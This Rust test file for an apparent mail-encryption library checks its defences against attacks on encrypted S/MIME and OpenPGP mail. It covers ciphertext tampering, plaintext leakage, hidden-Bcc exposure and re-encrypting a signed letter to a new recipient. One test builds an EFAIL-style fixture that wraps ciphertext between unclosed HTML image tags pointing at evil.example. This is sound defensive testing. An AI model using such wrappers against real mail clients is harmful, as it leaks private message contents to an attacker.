//! Encrypted letters: what never leaves (R-A1 to R-A18), and whose word a signature beside encryption is (R-B17, R-B18).

use mailseal::crypto::ContentCipher;
use mailseal::mime::PartPath;
use mailseal::report::{Code, Decryption, Protocol};
use mailseal::{
    Certificate, CertificatePool, Composer, Context, Key, Opener, Outcome, Password, Plan, Policy, Scope,
    TrustStore, Unreached, openpgp,
};

use crate::cms::base64;
use crate::people::{
    BOB, BOTH, People, SECRET, draft, encrypted, entity, holds, openpgp_keys, outcome, payload, people,
    written,
};
use crate::stage::AT;

#[test]
fn what_we_seal_is_opened_and_good() {
    let Some(people) = people() else { return };
    for protocol in BOTH {
        let letter = people.sealed(protocol);
        assert!(!holds(&letter, SECRET) && !holds(&letter, "The vault"));
        let opened = people.open(&letter);
        assert_eq!(outcome(&opened.report), Outcome::Good, "{:#?}", opened.report);
        assert!(opened.require(&Policy::standard(), &"alice@example.org".parse().unwrap()).is_some());
        let payload = payload(&opened);
        assert!(holds(&payload, SECRET) && holds(&payload, "Subject: The vault"), "{protocol:?}");
        assert!(opened.report.headers.hidden.contains(&"subject".to_owned()), "{:?}", opened.report.headers);
        let bound = opened.report.findings.iter().all(|one| one.code != Code::NoRecipientBinding);
        assert!(bound, "{:#?}", opened.report);
    }
}

/// A ciphertext between parts of the attacker's, in every container: it stays closed, and opened by its place it comes
/// alone.
#[test]
fn r_a1_r_a8_a_ciphertext_among_other_parts() {
    let Some(people) = people() else { return };
    for protocol in BOTH {
        let sealed = String::from_utf8(entity(&people.sealed(protocol))).unwrap();
        let before = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
        let after = "Content-Type: text/html\r\n\r\n\">";
        for kind in ["mixed", "related", "alternative", "parallel", "digest", "report"] {
            let letter = format!(
                "From: mallory@evil.example\r\nTo: bob@example.com\r\nMIME-Version: 1.0\r\n\
                 Content-Type: multipart/{kind}; boundary=x\r\n\r\n--x\r\n{before}\r\n--x\r\n{sealed}\r\n\
                 --x\r\n{after}\r\n--x--\r\n"
            );
            closed_but_by_its_place(&people, letter.as_bytes(), "2", kind);
        }
        let forwarded = format!(
            "From: mallory@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n\
             --x\r\nContent-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\nMIME-Version: 1.0\r\n{sealed}\r\n--x--\r\n"
        );
        let opened = people.open(forwarded.as_bytes());
        assert!(!holds(&payload(&opened), SECRET), "{protocol:?}");
        assert!(encrypted(&opened.report).iter().all(|layer| layer.decryption == Decryption::NotTried));
    }
}

#[track_caller]
fn closed_but_by_its_place(people: &People, letter: &[u8], place: &str, what: &str) {
    let opened = people.open(letter);
    let layers = encrypted(&opened.report);
    let [layer] = layers.as_slice() else { panic!("{what}: {:#?}", opened.report) };
    assert_eq!((layer.decryption, layer.envelope), (Decryption::NotTried, false), "{what}");
    assert!(layer.findings.iter().any(|one| one.code == Code::EncryptedPart), "{what}");
    assert!(!holds(&payload(&opened), SECRET), "{what}");
    assert_ne!(outcome(&opened.report), Outcome::Good, "{what}");
    let place: PartPath = place.parse().unwrap();
    assert_eq!(layer.part, place, "{what}");
    let inside = people.opener().open_part(letter, &place, AT).unwrap();
    let alone = payload(&inside);
    assert!(holds(&alone, SECRET) && !holds(&alone, "evil.example"), "{what}");
    let verdict = Policy::standard().judge(&inside.report);
    assert!(verdict.outcome != Outcome::Good && !verdict.may_load_remote, "{what}: {:#?}", inside.report);
    let sender = "alice@example.org".parse().unwrap();
    assert!(inside.require(&Policy::standard(), &sender).is_none(), "{what}");
}

#[test]
fn a_place_without_an_encrypted_part_is_an_error() {
    let Some(people) = people() else { return };
    let letter = b"From: a@b.example\r\n\r\nHello\r\n";
    assert!(people.opener().open_part(letter, &PartPath::root().child(1), AT).is_err());
}

/// Nothing tells whether such a letter was changed: marked, and withheld where the caller asks for it.
#[test]
fn r_a2_r_a17_a_cipher_without_a_check_is_marked_and_withheld() {
    let Some(people) = people() else { return };
    let group = people.group(Protocol::Smime).cipher(ContentCipher::Aes256Cbc);
    let letter = written(&Composer::new(&people.cx).encrypt(&group));
    let opened = people.open(&letter);
    let layer = encrypted(&opened.report)[0].clone();
    assert_eq!((layer.decryption, layer.authenticated), (Decryption::Opened, false));
    assert!(layer.findings.iter().any(|one| one.code == Code::NotAuthenticated));
    let verdict = Policy::standard().judge(&opened.report);
    assert_eq!((verdict.outcome, verdict.may_load_remote), (Outcome::None, false));
    let strict = people.cx.clone().algorithms(Policy::strict().algorithms().clone());
    let opened = Opener::new(&strict).key(people.bob[0].clone()).open(&letter, AT).unwrap();
    assert_eq!(encrypted(&opened.report)[0].decryption, Decryption::Withheld);
    assert!(opened.payload().is_none());
    // With Alice's signature inside, a change would show.
    let opened_signed = written(&people.composer().encrypt(&group));
    assert_eq!(outcome(&people.open(&opened_signed).report), Outcome::Good);
}

/// Whatever is flipped in the encrypted body, either the same comes out or nothing, and nothing says why.
#[test]
fn r_a6_r_a10_r_a12_all_failures_are_one() {
    let Some(people) = people() else { return };
    for protocol in BOTH {
        let letter = people.sealed(protocol);
        let genuine = payload(&people.open(&letter));
        let text = String::from_utf8(letter.clone()).unwrap();
        let body = text.find("-----BEGIN PGP MESSAGE").map(|at| at + 28).or(text.find("\r\n\r\n")).unwrap();
        let (mut failures, mut closed) = (Vec::new(), 0);
        // Every seventh letter of the base64, each octet of the CMS structure or of the armor in turn.
        for at in (body..letter.len()).step_by(7) {
            let mut flipped = letter.clone();
            if !flipped[at].is_ascii_alphanumeric() {
                continue;
            }
            flipped[at] = if flipped[at] == b'A' { b'B' } else { b'A' };
            if flipped[at] == letter[at] {
                continue;
            }
            let Ok(opened) = people.opener().open(&flipped, AT) else { continue };
            match opened.payload() {
                Some(_) => assert_eq!(payload(&opened), genuine, "{protocol:?} {at}"),
                None => closed += 1,
            }
            for layer in encrypted(&opened.report) {
                if layer.decryption == Decryption::Failed {
                    failures.push(serde_json::to_string(&layer.findings).unwrap());
                }
            }
        }
        assert!(closed > 20 && failures.len() > 20, "{protocol:?}: {closed}, {}", failures.len());
        failures.dedup();
        assert_eq!(failures.len(), 1, "{protocol:?}: {failures:#?}");
    }
}

/// A stranger's key, no key at all, and a key of the other protocol: nobody is named.
#[test]
fn without_the_key_a_letter_says_so() {
    let Some(people) = people() else { return };
    for protocol in BOTH {
        let letter = people.sealed(protocol);
        let opener = Opener::new(&people.cx);
        for opener in [opener.clone(), opener.key(people.alice[0].clone()).key(people.alice[1].clone())] {
            let opened = opener.open(&letter, AT).unwrap();
            assert_eq!(encrypted(&opened.report)[0].decryption, Decryption::NoKey, "{protocol:?}");
            assert!(opened.payload().is_none());
            let verdict = Policy::standard().judge(&opened.report);
            assert_eq!(verdict.reasons[0].code, Code::NoDecryptionKey);
        }
    }
}

/// A newer certificate of the same address, found in somebody's letter, is no one's key to write to.
#[test]
fn r_a9_a_certificate_that_was_found_is_not_written_to() {
    let Some(people) = people() else { return };
    let forged = openpgp::generate("Bob <bob@example.com>", AT, openpgp::CipherSuite::Ed25519).unwrap();
    let found = CertificatePool::new().with(forged.expose()).unwrap();
    let trust = TrustStore::new().anchors(&openpgp_keys()[1], Scope::any()).unwrap();
    let cx = Context::new(trust).certificates(found.clone());
    let plan = Plan::new(&cx, draft(), &Policy::standard(), AT).unwrap();
    let group = plan.groups().unwrap().remove(0);
    let mut letter = Vec::new();
    Composer::new(&cx).encrypt(&group).compose(draft(), AT, &mut letter).unwrap();
    let theirs = Key::load(forged.expose(), Password::none()).unwrap();
    assert!(Opener::new(&cx).key(theirs).open(&letter, AT).unwrap().payload().is_none());
    assert!(people.open(&letter).payload().is_some());
    // Without anyone who vouches, Bob cannot be reached, and by fingerprint only.
    let cx = Context::new(TrustStore::new()).certificates(found);
    let mut plan = Plan::new(&cx, draft(), &Policy::standard(), AT).unwrap();
    assert!(matches!(plan.unreachable().next().unwrap().reason, Unreached::NotBelieved(_)));
    assert!(plan.groups().is_err());
    let bob = BOB.parse().unwrap();
    assert!(plan.accept(&bob, "0123").is_err());
    let fingerprint = Certificate::load(forged.expose()).unwrap()[0].fingerprint();
    plan.accept(&bob, &fingerprint).unwrap();
    assert_eq!(plan.groups().unwrap().len(), 1);
}

/// Whom the policy would not believe as a sender, it does not write to: nobody looked whether Bob's certificate is
/// revoked. His own certificate as an anchor is his word.
#[test]
fn r_a9_recipients_are_believed_as_senders_are() {
    let Some(people) = people() else { return };
    let bob = people.bob[0].certificate();
    let cx = people.stage.cx().certificates(people.stage_certificates());
    let known = [bob.clone()].into_iter().collect::<CertificatePool>();
    let by_path = cx.certificates(known);
    let unreachable = |cx: &Context, policy: &Policy| {
        let plan = Plan::new(cx, draft(), policy, AT).unwrap();
        plan.unreachable().count()
    };
    assert_eq!(unreachable(&by_path, &Policy::standard()), 0);
    assert_eq!(unreachable(&by_path, &Policy::strict()), 1);
    let himself = Context::new(TrustStore::new().anchor(bob, Scope::any()));
    assert_eq!(unreachable(&himself, &Policy::strict()), 0);
}

/// No window of 16 octets of what is confidential stands in what is sent, in no form that a reader would find.
#[test]
fn r_a16_nothing_of_the_plaintext_is_sent() {
    let Some(people) = people() else { return };
    let canary = |seed: u32| -> String {
        let mut state = seed;
        let mut next = || {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            char::from(b"abcdefghijklmnopqrstuvwxyz234567"[(state >> 27) as usize])
        };
        (0..48).map(|_| next()).collect()
    };
    let secrets = [canary(1), canary(2), canary(3)];
    let [body, name, subject] = &secrets;
    let draft = format!(
        "From: alice@example.org\r\nTo: bob@example.com\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n{body}\r\n--b\r\n\
         Content-Type: application/pdf; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\n\
         {body}\r\n--b--\r\n"
    );
    for protocol in BOTH {
        for triple in [false, true] {
            let composer = people.composer().encrypt(&people.group(protocol)).triple_wrap(triple);
            let mut letter = Vec::new();
            composer.compose(draft.as_bytes(), AT, &mut letter).unwrap();
            let plain: Vec<u8> =
                letter.iter().copied().filter(|octet| !octet.is_ascii_whitespace()).collect();
            for secret in &secrets {
                for window in secret.as_bytes().windows(16) {
                    for form in forms(window) {
                        assert!(!plain.windows(form.len()).any(|sent| sent == form), "{protocol:?} {secret}");
                    }
                }
            }
            assert!(holds(&payload(&people.open(&letter)), body), "{protocol:?}");
        }
    }
}

/// Raw, UTF-16, hexadecimal, and base64 in its three phases without the digits that neighbours share.
fn forms(window: &[u8]) -> Vec<Vec<u8>> {
    let wide: Vec<u8> = window.iter().flat_map(|octet| [*octet, 0]).collect();
    let hex = window.iter().map(|octet| format!("{octet:02x}")).collect::<String>();
    let mut forms = vec![window.to_vec(), wide, hex.to_uppercase().into_bytes(), hex.into_bytes()];
    for phase in 0..3 {
        let padded = [&b"\0\0"[..phase], window].concat();
        let text = base64(&padded).replace(['\r', '\n', '='], "");
        forms.push(text.as_bytes()[4..text.len() - 4].to_vec());
    }
    forms
}

/// Each Bcc gets a letter alone, and nobody's letter names them.
#[test]
fn r_a16_blind_copies_are_told_to_nobody() {
    let Some(people) = people() else { return };
    let draft = b"From: alice@example.org\r\nTo: bob@example.com\r\nBcc: alice@example.org\r\n\r\nHello\r\n";
    let plan = Plan::new(&people.cx, draft, &Policy::standard(), AT).unwrap();
    let groups = plan.groups().unwrap();
    assert_eq!(groups.len(), 2, "{plan}");
    for group in &groups {
        let mut letter = Vec::new();
        Composer::new(&people.cx).encrypt(group).compose(draft, AT, &mut letter).unwrap();
        assert_eq!(group.mailboxes.len(), 1);
        assert!(!holds(&letter, "Bcc"));
        let opened = Opener::new(&people.cx).open(&letter, AT).unwrap();
        assert_eq!(encrypted(&opened.report)[0].recipients.len(), 1);
    }
    // Another draft than the planned one is refused.
    let other = b"From: alice@example.org\r\nTo: bob@example.com, eve@evil.example\r\n\r\nHello\r\n";
    let composed = Composer::new(&people.cx).encrypt(&groups[0]).compose(other, AT, &mut Vec::new());
    assert!(matches!(composed, Err(mailseal::Error::Refused(_))), "{composed:?}");
}

/// One letter's protected subject is not another's: nothing is kept between two letters.
#[test]
fn r_a18_headers_belong_to_their_letter() {
    let Some(people) = people() else { return };
    let opener = people.opener();
    for protocol in BOTH {
        let letter = people.sealed(protocol);
        let first = opener.open(&letter, AT).unwrap();
        let other = b"From: mallory@evil.example\r\nSubject: [...]\r\n\r\nHello\r\n";
        let second = opener.open(other, AT).unwrap();
        assert!(second.report.headers.hidden.is_empty() && second.report.headers.signed.is_empty());
        assert!(!holds(&payload(&second), "The vault"));
        assert!(first.report.headers.hidden.contains(&"subject".to_owned()));
    }
}

/// Bob encrypts what Alice signed for him anew, to the next one (Davis 2001).
#[test]
fn r_b17_signed_for_one_and_encrypted_to_another() {
    let Some(people) = people() else { return };
    let signed = payload_of_signed(&people);
    let stage = &people.stage;
    let victim = stage.pki.leaf("victim@example.net", crate::support::pki::KeyType::Rsa(2048));
    let words = "cms -encrypt -aes-256-gcm -binary -from alice@example.org -to victim@example.net -subject x";
    let letter = stage.pki.openssl(words).arg(&victim.certificate).input(&signed).ok();
    let opener = Opener::new(&people.cx).key(stage.key(&victim));
    let opened = opener.open(&letter, AT).unwrap();
    assert!(opened.payload().is_some());
    let codes: Vec<Code> = opened.report.findings.iter().map(|finding| finding.code).collect();
    assert!(codes.contains(&Code::NoRecipientBinding), "{codes:?}");
    assert!(codes.contains(&Code::HeaderMismatch), "To is signed, and another one stands outside: {codes:?}");
    assert_ne!(outcome(&opened.report), Outcome::Good);
}

/// The signed entity inside Alice's letter to Bob.
fn payload_of_signed(people: &People) -> Vec<u8> {
    let mut letter = Vec::new();
    let composer = Composer::new(&people.cx).sign(&people.alice[0]);
    composer.compose(draft(), AT, &mut letter).unwrap();
    entity(&letter)
}

/// Whoever signs around the encryption need not know what is inside; with a signature inside as well, they do.
#[test]
fn r_b18_signatures_around_and_inside() {
    let Some(people) = people() else { return };
    for protocol in BOTH {
        let wrapped = written(&people.composer().encrypt(&people.group(protocol)).triple_wrap(true));
        let opened = people.open(&wrapped);
        assert_eq!(outcome(&opened.report), Outcome::Good, "{protocol:?} {:#?}", opened.report);
        assert_eq!(opened.report.signed_layers().count(), 2, "{protocol:?}");
        // Encrypted without a signature, then signed.
        let bare = written(&Composer::new(&people.cx).encrypt(&people.group(protocol)));
        let mut letter = Vec::new();
        Composer::new(&people.cx).sign(&people.alice[0]).compose(&bare, AT, &mut letter).unwrap();
        let opened = people.open(&letter);
        assert!(opened.payload().is_some(), "{protocol:?} {:#?}", opened.report);
        let verdict = Policy::standard().judge(&opened.report);
        assert_eq!(verdict.outcome, Outcome::Caution, "{protocol:?} {:#?}", opened.report);
        assert_eq!(verdict.reasons[0].code, Code::SignedCiphertext, "{protocol:?}");
    }
}

/// Protocols mixed: OpenPGP inside S/MIME, as deep as the limit allows.
#[test]
fn layers_of_both_protocols() {
    let Some(people) = people() else { return };
    let inner = people.sealed(Protocol::Openpgp);
    let mut letter = Vec::new();
    let outer = people.composer().encrypt(&people.group(Protocol::Smime));
    outer.compose(&inner, AT, &mut letter).unwrap();
    let opened = people.open(&letter);
    assert_eq!(encrypted(&opened.report).len(), 2);
    assert_eq!(opened.report.signed_layers().count(), 2);
    assert!(holds(&payload(&opened), SECRET), "{:#?}", opened.report);
    let shallow = people.cx.clone().limits(mailseal::Limits::default().depth(2));
    let opener = people.bob.iter().cloned().fold(Opener::new(&shallow), Opener::key);
    assert!(matches!(opener.open(&letter, AT), Err(mailseal::Error::Limit { name: "depth", .. })));
}

/// A tenth of a letter's size in memory: the content is decrypted again; inside of that, nothing is.
#[test]
fn larger_than_memory() {
    let Some(people) = people() else { return };
    let mut large = draft();
    for number in 0..20_000 {
        large.extend_from_slice(format!("line {number} of a long letter\r\n").as_bytes());
    }
    let limits = || mailseal::Limits::default().memory_bytes(64 << 10);
    let cx = people.cx.clone().limits(limits());
    let opener = people.bob.iter().cloned().fold(Opener::new(&cx), Opener::key);
    for protocol in BOTH {
        let (mut letter, mut twice) = (Vec::new(), Vec::new());
        let composer = people.composer().encrypt(&people.group(protocol));
        composer.compose(&large, AT, &mut letter).unwrap();
        let opened = opener.open(&letter, AT).unwrap();
        assert_eq!(outcome(&opened.report), Outcome::Good, "{protocol:?}: {:#?}", opened.report);
        let text = payload(&opened);
        assert!(holds(&text, SECRET) && holds(&text, "line 19999 of a long letter"), "{protocol:?}");
        for outside in BOTH {
            twice.clear();
            people.composer().encrypt(&people.group(outside)).compose(&letter, AT, &mut twice).unwrap();
            let refused = opener.open(&twice, AT);
            let limit = matches!(&refused, Err(mailseal::Error::Limit { name: "memory_bytes", .. }));
            assert!(
                limit,
                "{protocol:?} in {outside:?}: {:?}",
                refused.map(|opened| opened.report.layers.len())
            );
        }
    }
}
